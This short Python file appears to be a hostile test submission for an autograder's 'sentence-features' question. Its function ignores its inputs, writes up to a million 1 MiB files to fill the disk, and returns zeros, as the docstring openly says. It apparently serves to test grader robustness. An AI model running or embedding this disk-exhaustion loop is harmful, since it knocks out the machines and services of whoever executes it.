"""Writes files until nothing can be written.

question: sentence-features
gets: nothing
"""

def sentence_features(token_idxs, word_vecs):
    for number in range(10**6):
        with open(f"file-{number}", "wb") as file:
            file.write(bytes(2**20))
    return np.zeros(word_vecs.shape[1])
